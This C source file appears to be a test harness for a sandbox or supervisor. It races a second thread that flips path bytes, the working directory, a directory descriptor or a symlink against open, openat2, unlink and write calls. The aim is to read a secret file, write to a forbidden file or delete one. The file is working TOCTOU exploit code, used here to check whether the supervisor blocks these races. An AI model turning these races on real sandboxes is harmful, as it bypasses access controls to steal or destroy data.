/* toctou.c: races a second thread against the supervisor's check of a path.
 *
 *   toctou path-read  SECONDS ALLOWED FORBIDDEN SECRET LOOT   rewrite the path buffer under open()
 *   toctou openat2-read SECONDS ALLOWED FORBIDDEN SECRET LOOT same, under openat2() with a resolve flag
 *   toctou path-write SECONDS ALLOWED FORBIDDEN MARKER         same, opening for writing (O_CREAT)
 *   toctou path-unlink SECONDS ALLOWED FORBIDDEN               same, under unlink()
 *   toctou cwd-read   SECONDS DECOYDIR SECRETDIR NAME SECRET LOOT   flip the cwd under open(NAME)
 *   toctou dirfd-read SECONDS DECOYDIR SECRETDIR RELPATH SECRET LOOT flip a dirfd under openat()
 *   toctou symlink-read SECONDS LINK DECOY TARGET SECRET LOOT  flip a symlink under open(LINK)
 *
 * ALLOWED and FORBIDDEN must have the same length so every intermediate state of
 * the buffer is a complete string. Stops at the first success (exit 0) or after
 * SECONDS (exit 1); prints how many attempts landed on each side so the test can
 * check that the race was really run. */
#include "common.h"
#include <linux/openat2.h>
#include <pthread.h>
#include <sys/syscall.h>
#include <stdatomic.h>
#include <sys/stat.h>
#include <time.h>

static char path_buf[4096];
static const char *side[2];
static size_t path_len;
static atomic_int stop_flag;
static int flip_fds[2];
static int shared_fd;
static const char *link_path, *link_targets[2];

static void *flip_path(void *arg)
{
    (void)arg;
    /* Rewrite only the bytes that differ, one at a time: every state is a valid path
     * and most states are the allowed or the forbidden one. */
    for (unsigned long i = 0; !atomic_load_explicit(&stop_flag, memory_order_relaxed); i++) {
        const char *next = side[i & 1];
        for (size_t k = 0; k < path_len; k++)
            if (((volatile char *)path_buf)[k] != next[k])
                ((volatile char *)path_buf)[k] = next[k];
    }
    return NULL;
}

static const char *flip_dirs[2];

static void *flip_cwd(void *arg)
{
    (void)arg;
    for (unsigned long i = 0; !atomic_load_explicit(&stop_flag, memory_order_relaxed); i++)
        if (chdir(flip_dirs[i & 1]) != 0) { /* a denied chdir is also a fine outcome */ }
    return NULL;
}

static void *flip_dirfd(void *arg)
{
    (void)arg;
    for (unsigned long i = 0; !atomic_load_explicit(&stop_flag, memory_order_relaxed); i++)
        dup2(flip_fds[i & 1], shared_fd);
    return NULL;
}

static void *flip_symlink(void *arg)
{
    (void)arg;
    char tmp[4200];
    snprintf(tmp, sizeof tmp, "%s.flip", link_path);
    for (unsigned long i = 0; !atomic_load_explicit(&stop_flag, memory_order_relaxed); i++) {
        unlink(tmp);
        if (symlink(link_targets[i & 1], tmp) == 0)
            rename(tmp, link_path);
    }
    return NULL;
}

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void stats(const char *technique, long allowed, long denied, long other)
{
    printf("STATS %s allowed=%ld denied=%ld other=%ld\n", technique, allowed, denied, other);
    fflush(stdout);
}

/* Read from fd; classify what we got. Returns 2 on secret, 1 on decoy content, 0 otherwise. */
static int classify(int fd, const char *secret, const char *loot)
{
    char buf[4096];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    if (n <= 0)
        return 0;
    buf[n] = 0;
    if (strstr(buf, secret)) {
        save_loot(loot, buf, (size_t)n);
        return 2;
    }
    return 1;
}

int main(int argc, char **argv)
{
    if (argc < 3)
        die_usage("toctou MODE SECONDS ARGS...");
    const char *mode = argv[1];
    double deadline = now() + atof(argv[2]);
    long allowed = 0, denied = 0, other = 0;
    pthread_t flipper;
    void *(*flip)(void *) = NULL;

    if (!strcmp(mode, "path-read") || !strcmp(mode, "openat2-read") || !strcmp(mode, "path-write") ||
        !strcmp(mode, "path-unlink")) {
        if (argc < 5)
            die_usage("toctou path-* SECONDS ALLOWED FORBIDDEN [SECRET LOOT | MARKER]");
        side[0] = argv[3];
        side[1] = argv[4];
        path_len = strlen(side[0]);
        if (path_len != strlen(side[1]) || path_len >= sizeof path_buf)
            die_usage("ALLOWED and FORBIDDEN must have the same length");
        memcpy(path_buf, side[0], path_len + 1);
        flip = flip_path;
    } else if (!strcmp(mode, "cwd-read")) {
        if (argc != 8)
            die_usage("toctou cwd-read SECONDS DECOYDIR SECRETDIR NAME SECRET LOOT");
        flip_dirs[0] = argv[3];
        flip_dirs[1] = argv[4];
        flip = flip_cwd;
    } else if (!strcmp(mode, "dirfd-read")) {
        if (argc != 8)
            die_usage("toctou dirfd-read SECONDS DECOYDIR SECRETDIR RELPATH SECRET LOOT");
        flip_fds[0] = open(argv[3], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        flip_fds[1] = open(argv[4], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (flip_fds[0] < 0 || flip_fds[1] < 0) {
            report_errno(mode, "open the two directories");
            return 1;
        }
        shared_fd = dup(flip_fds[0]);
        flip = flip_dirfd;
    } else if (!strcmp(mode, "symlink-read")) {
        if (argc != 8)
            die_usage("toctou symlink-read SECONDS LINK DECOY TARGET SECRET LOOT");
        link_path = argv[3];
        link_targets[0] = argv[4];
        link_targets[1] = argv[5];
        unlink(link_path);
        if (symlink(link_targets[0], link_path) != 0) {
            report_errno(mode, "symlink");
            return 1;
        }
        flip = flip_symlink;
    } else {
        die_usage("unknown mode");
    }

    pthread_create(&flipper, NULL, flip, NULL);
    int obtained = 0;
    while (!obtained && now() < deadline) {
        for (int burst = 0; burst < 64 && !obtained; burst++) {
            if (!strcmp(mode, "path-read") || !strcmp(mode, "openat2-read")) {
                struct open_how how = {.flags = O_RDONLY | O_CLOEXEC, .resolve = RESOLVE_NO_MAGICLINKS};
                int fd = !strcmp(mode, "path-read") ? open(path_buf, O_RDONLY | O_CLOEXEC)
                                                    : (int)syscall(SYS_openat2, AT_FDCWD, path_buf, &how, sizeof how);
                if (fd < 0) {
                    errno == EACCES || errno == EPERM ? denied++ : other++;
                    continue;
                }
                int what = classify(fd, argv[5], argv[6]);
                close(fd);
                if (what == 2)
                    obtained = 1;
                else
                    allowed++;
            } else if (!strcmp(mode, "path-write")) {
                int fd = open(path_buf, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
                if (fd < 0) {
                    errno == EACCES || errno == EPERM ? denied++ : other++;
                    continue;
                }
                /* Which file did we get? Compare the inode with the forbidden path's. */
                struct stat got, forbidden;
                if (fstat(fd, &got) == 0 && stat(side[1], &forbidden) == 0 && got.st_ino == forbidden.st_ino &&
                    got.st_dev == forbidden.st_dev) {
                    if (write(fd, argv[5], strlen(argv[5])) > 0)
                        obtained = 1;
                } else {
                    allowed++;
                }
                close(fd);
            } else if (!strcmp(mode, "path-unlink")) {
                /* Keep the allowed victim in place; whether the forbidden one vanished is checked after. */
                int fd = open(side[0], O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
                if (fd >= 0)
                    close(fd);
                if (unlink(path_buf) == 0) {
                    allowed++;
                    if (access(side[1], F_OK) != 0 && errno == ENOENT)
                        obtained = 1;
                } else {
                    errno == EACCES || errno == EPERM ? denied++ : other++;
                }
            } else {
                int fd;
                if (!strcmp(mode, "cwd-read"))
                    fd = open(argv[5], O_RDONLY | O_CLOEXEC);
                else if (!strcmp(mode, "dirfd-read"))
                    fd = openat(shared_fd, argv[5], O_RDONLY | O_CLOEXEC);
                else
                    fd = open(link_path, O_RDONLY | O_CLOEXEC);
                if (fd < 0) {
                    errno == EACCES || errno == EPERM ? denied++ : other++;
                    continue;
                }
                int what = classify(fd, argv[6], argv[7]);
                close(fd);
                if (what == 2)
                    obtained = 1;
                else
                    allowed++;
            }
        }
    }
    atomic_store(&stop_flag, 1);
    pthread_join(flipper, NULL);
    stats(mode, allowed, denied, other);
    report(mode, obtained ? "OBTAINED" : "BLOCKED", obtained ? "the race was won" : "race not won in time");
    return obtained ? 0 : 1;
}
